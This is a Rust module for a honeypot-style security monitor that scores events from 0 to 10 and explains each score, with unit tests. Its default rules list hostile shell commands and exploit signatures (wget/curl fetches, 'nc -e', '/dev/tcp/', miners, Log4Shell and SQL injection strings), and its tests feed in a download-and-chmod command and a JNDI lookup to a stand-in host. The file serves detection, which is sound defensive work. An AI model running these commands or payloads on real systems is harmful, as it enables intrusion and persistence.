//! The built-in scorer: explainable, configurable points that add up to a risk score from 0 to 10.
//! Each rule that fires adds points and a reason; the attack type is the category that added the
//! most. The weights and word lists are settings (`watch.scoring` in the configuration).

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::events::{EventDetail, NewEvent};

/// The highest score.
pub const MAX_SCORE: f64 = 10.0;

/// What else is known about the event's source when it is scored.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Signals {
    /// Distinct nodes that have seen this source, this event's included.
    pub nodes_seen: u32,
    /// Events from this source in the last minute, this one included.
    pub recent_events: u32,
}

/// One rule that fired.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Reason {
    pub rule: String,
    pub points: f64,
    pub detail: String,
}

/// A risk score with its explanation.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Score {
    /// 0 to 10, one decimal.
    pub score: f64,
    pub attack_type: String,
    pub reasons: Vec<Reason>,
}

impl Score {
    /// A score from another scorer, kept within 0–10 at one decimal.
    pub fn new(score: f64, attack_type: impl Into<String>, reasons: Vec<Reason>) -> Self {
        let score = if score.is_finite() { (score.clamp(0.0, MAX_SCORE) * 10.0).round() / 10.0 } else { 0.0 };
        Self { score, attack_type: attack_type.into(), reasons }
    }
}

/// A named pattern: a case-insensitive piece of text that marks an exploit attempt.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Pattern {
    pub name: String,
    pub text: String,
}

fn pattern(name: &str, text: &str) -> Pattern {
    Pattern { name: name.into(), text: text.into() }
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct ScoringRules {
    /// Points for a visit to a service, by name.
    pub services: BTreeMap<String, f64>,
    /// Points for a visit to any other service.
    pub default_service: f64,
    /// Points per credential tried, up to `credentials_max`.
    pub per_credential: f64,
    pub credentials_max: f64,
    /// Points when the payload runs a known-bad command, and those commands.
    pub bad_command: f64,
    pub bad_commands: Vec<String>,
    /// Points when the payload matches an exploit pattern, and those patterns.
    pub exploit: f64,
    pub exploit_patterns: Vec<Pattern>,
    /// Points when a decoy is touched: nobody has a reason to.
    pub decoy: f64,
    /// Points for an agent's action on a file, by action; others get `default_action`.
    pub actions: BTreeMap<String, f64>,
    pub default_action: f64,
    /// Points when the same source has been seen by several nodes.
    pub multi_node: f64,
    /// Points when the source sent at least `burst_events` events in the last minute.
    pub burst: f64,
    pub burst_events: u32,
}

impl Default for ScoringRules {
    fn default() -> Self {
        let services = [
            ("telnet", 3.0),
            ("rdp", 3.0),
            ("smb", 3.0),
            ("vnc", 3.0),
            ("redis", 3.0),
            ("ssh", 2.0),
            ("ftp", 2.0),
            ("mysql", 2.5),
            ("mssql", 2.5),
            ("postgresql", 2.5),
            ("mongodb", 2.5),
            ("elasticsearch", 2.5),
            ("sip", 2.0),
            ("http", 1.0),
            ("https", 1.0),
        ];
        let bad_commands = [
            "wget ",
            "curl ",
            "chmod +x",
            "chmod 777",
            "/bin/sh",
            "/bin/bash",
            "rm -rf",
            "nc -e",
            "ncat ",
            "base64 -d",
            "busybox",
            "tftp ",
            "crontab",
            "/dev/tcp/",
            "python -c",
            "perl -e",
            "xmrig",
            "minerd",
            "useradd",
            "passwd",
            "authorized_keys",
            "iptables -f",
            "history -c",
            "uname -a",
            "cat /proc/cpuinfo",
        ];
        let exploit_patterns = vec![
            pattern("path traversal", "../"),
            pattern("path traversal", "..%2f"),
            pattern("SQL injection", "union select"),
            pattern("SQL injection", "' or '1'='1"),
            pattern("SQL injection", "' or 1=1"),
            pattern("Log4Shell", "${jndi:"),
            pattern("Shellshock", "() {"),
            pattern("cross-site scripting", "<script"),
            pattern("sensitive file read", "/etc/passwd"),
            pattern("sensitive file read", "/etc/shadow"),
            pattern("Windows command", "cmd.exe"),
            pattern("PHP code injection", "<?php"),
        ];
        let actions =
            [("delete", 3.0), ("modify", 2.5), ("write", 2.5), ("rename", 2.5), ("copy", 2.0), ("exfiltrate", 4.0)];
        Self {
            services: services.iter().map(|(name, points)| ((*name).to_owned(), *points)).collect(),
            default_service: 1.0,
            per_credential: 1.0,
            credentials_max: 4.0,
            bad_command: 4.0,
            bad_commands: bad_commands.iter().map(|command| (*command).to_owned()).collect(),
            exploit: 5.0,
            exploit_patterns,
            decoy: 8.0,
            actions: actions.iter().map(|(name, points)| ((*name).to_owned(), *points)).collect(),
            default_action: 1.5,
            multi_node: 2.0,
            burst: 2.0,
            burst_events: 20,
        }
    }
}

/// Reasons in the making, with the category each belongs to.
struct Tally {
    reasons: Vec<Reason>,
    /// (attack type, points) per reason, for the type that added the most.
    categories: Vec<(&'static str, f64)>,
}

impl Tally {
    fn add(&mut self, category: &'static str, rule: &str, points: f64, detail: String) {
        if points > 0.0 {
            self.reasons.push(Reason { rule: rule.to_owned(), points, detail });
            self.categories.push((category, points));
        }
    }
}

impl ScoringRules {
    /// The rules with every name, command and pattern in lowercase, as [`ScoringRules::score`]
    /// compares them with the lowercased event (rules from a configuration file pass here once).
    pub fn normalized(mut self) -> Self {
        let lower = |map: BTreeMap<String, f64>| map.into_iter().map(|(k, v)| (k.to_ascii_lowercase(), v)).collect();
        self.services = lower(self.services);
        self.actions = lower(self.actions);
        for command in &mut self.bad_commands {
            *command = command.to_ascii_lowercase();
        }
        for pattern in &mut self.exploit_patterns {
            pattern.text = pattern.text.to_ascii_lowercase();
        }
        self
    }

    /// Scores an event; the rules must be [`normalized`](ScoringRules::normalized) (the defaults are).
    pub fn score(&self, event: &NewEvent, signals: Signals) -> Score {
        let mut tally = Tally { reasons: Vec::new(), categories: Vec::new() };
        match &event.detail {
            EventDetail::Honeypot { service, activity, payload, usernames, passwords, .. } => {
                let points = self.services.get(service.as_str()).copied().unwrap_or(self.default_service);
                tally.add("reconnaissance", "service", points, format!("visited {service}"));
                let tried = usernames.len().max(passwords.len());
                let text = format!("{activity}\n{payload}").to_ascii_lowercase();
                let login = text.contains("login") || text.contains("auth");
                let tried = if tried == 0 && login { 1 } else { tried };
                if tried > 0 {
                    let points = (self.per_credential * tried as f64).min(self.credentials_max);
                    tally.add("credential_attack", "credentials", points, format!("{tried} credential(s) tried"));
                }
                self.score_commands(&text, &mut tally);
                if let Some(found) = self.exploit_patterns.iter().find(|p| text.contains(p.text.as_str())) {
                    tally.add("exploit_attempt", "exploit", self.exploit, format!("payload looks like {}", found.name));
                }
            }
            EventDetail::Agent { action, file_path, process, .. } => {
                let action_lower = action.to_ascii_lowercase();
                let points = self.actions.get(action_lower.as_str()).copied().unwrap_or(self.default_action);
                let on = file_path.as_deref().unwrap_or("the host");
                tally.add("file_tampering", "action", points, format!("{action} on {on}"));
                let text = process.as_deref().unwrap_or_default().to_ascii_lowercase();
                self.score_commands(&text, &mut tally);
            }
            EventDetail::Decoy { name, decoy_type, .. } => {
                tally.add("decoy_access", "decoy", self.decoy, format!("touched the {decoy_type} decoy {name:?}"));
            }
        }
        if signals.nodes_seen >= 2 {
            let detail = format!("seen by {} nodes", signals.nodes_seen);
            tally.add("reconnaissance", "multi_node", self.multi_node, detail);
        }
        if self.burst_events > 0 && signals.recent_events >= self.burst_events {
            let detail = format!("{} events in the last minute", signals.recent_events);
            tally.add("reconnaissance", "burst", self.burst, detail);
        }

        let total: f64 = tally.reasons.iter().map(|reason| reason.points).sum();
        // A visit is the setting, not the attack: it names the type only when nothing else fired.
        let base_visit = tally.reasons.first().is_some_and(|reason| reason.rule == "service");
        let mut by_type: Vec<(&str, f64)> = Vec::new();
        for (category, points) in tally.categories.iter().skip(usize::from(base_visit)) {
            match by_type.iter_mut().find(|(name, _)| name == category) {
                Some((_, sum)) => *sum += points,
                None => by_type.push((category, *points)),
            }
        }
        // The first category to reach the highest sum wins ties, so the order of rules decides.
        let attack_type = by_type
            .iter()
            .fold(None::<(&str, f64)>, |best, &(name, sum)| match best {
                Some((_, top)) if top >= sum => best,
                _ => Some((name, sum)),
            })
            .map_or(if base_visit { "reconnaissance" } else { "unknown" }, |(name, _)| name);
        Score::new(total, attack_type, tally.reasons)
    }

    /// Adds the points of the first bad command `text` (lower case) contains.
    fn score_commands(&self, text: &str, tally: &mut Tally) {
        if let Some(command) = self.bad_commands.iter().find(|c| text.contains(c.as_str())) {
            tally.add("command_execution", "bad_command", self.bad_command, format!("ran {:?}", command.trim()));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::watch::EventInput;

    fn event(input: EventInput) -> NewEvent {
        input.parse(None, crate::time::now()).expect("valid")
    }

    fn honeypot(service: &str, activity: &str, payload: &str) -> NewEvent {
        event(EventInput {
            kind: Some("honeypot".into()),
            source_ip: Some("203.0.113.9".into()),
            service: Some(service.into()),
            activity: Some(activity.into()),
            payload: Some(payload.into()),
            ..EventInput::default()
        })
    }

    fn rules_of(score: &Score) -> Vec<&str> {
        score.reasons.iter().map(|reason| reason.rule.as_str()).collect()
    }

    #[test]
    fn a_plain_connection_is_low_and_explained() {
        let rules = ScoringRules::default();
        let score = rules.score(&honeypot("http", "connection", ""), Signals { nodes_seen: 1, recent_events: 1 });
        assert_eq!((score.score, score.attack_type.as_str()), (1.0, "reconnaissance"));
        assert_eq!(rules_of(&score), ["service"]);
        assert_eq!(score.reasons[0].detail, "visited http");
    }

    #[test]
    fn commands_exploits_and_credentials_add_up_and_name_the_attack() {
        let rules = ScoringRules::default();
        let signals = Signals { nodes_seen: 1, recent_events: 1 };
        let shell = rules.score(&honeypot("ssh", "command", "cd /tmp; wget http://x/a.sh; chmod +x a.sh"), signals);
        assert_eq!((shell.score, shell.attack_type.as_str()), (6.0, "command_execution"));

        let log4j = rules.score(&honeypot("http", "request", "GET /?q=${jndi:ldap://x/a}"), signals);
        assert_eq!((log4j.score, log4j.attack_type.as_str()), (6.0, "exploit_attempt"));
        assert!(log4j.reasons[1].detail.contains("Log4Shell"));

        let brute = event(EventInput {
            kind: Some("honeypot".into()),
            source_ip: Some("203.0.113.9".into()),
            service: Some("telnet".into()),
            usernames: vec!["root".into(), "admin".into(), "pi".into(), "user".into(), "guest".into()],
            ..EventInput::default()
        });
        let brute = rules.score(&brute, signals);
        assert_eq!(
            (brute.score, brute.attack_type.as_str()),
            (7.0, "credential_attack"),
            "credentials are capped at 4"
        );
    }

    #[test]
    fn decoys_sources_on_several_nodes_and_bursts_raise_the_score_up_to_ten() {
        let rules = ScoringRules::default();
        let decoy = event(EventInput {
            kind: Some("decoy".into()),
            decoy_name: Some("aws-keys.txt".into()),
            ..EventInput::default()
        });
        let score = rules.score(&decoy, Signals { nodes_seen: 3, recent_events: 50 });
        assert_eq!((score.score, score.attack_type.as_str()), (10.0, "decoy_access"));
        assert_eq!(rules_of(&score), ["decoy", "multi_node", "burst"]);

        let quiet = rules.score(&honeypot("ssh", "connection", ""), Signals { nodes_seen: 1, recent_events: 19 });
        assert_eq!(rules_of(&quiet), ["service"]);
    }

    #[test]
    fn agent_actions_are_weighted_and_rules_are_configurable() {
        let mut rules = ScoringRules::default();
        let agent = event(EventInput {
            kind: Some("agent".into()),
            hostname: Some("db-1".into()),
            action: Some("DELETE".into()),
            file_path: Some("/srv/backup.tar".into()),
            ..EventInput::default()
        });
        let score = rules.score(&agent, Signals::default());
        assert_eq!((score.score, score.attack_type.as_str()), (3.0, "file_tampering"));
        rules.actions.remove("delete");
        rules.actions.insert("DELETE".into(), 9.5);
        let rules = rules.normalized();
        assert_eq!(rules.score(&agent, Signals::default()).score, 9.5);
        assert_eq!(ScoringRules::default().normalized(), ScoringRules::default(), "the defaults are normalized");
    }

    #[test]
    fn foreign_scores_are_clamped() {
        assert_eq!(Score::new(14.0, "x", vec![]).score, 10.0);
        assert_eq!(Score::new(-1.0, "x", vec![]).score, 0.0);
        assert_eq!(Score::new(f64::NAN, "x", vec![]).score, 0.0);
        assert_eq!(Score::new(7.349, "x", vec![]).score, 7.3);
    }
}
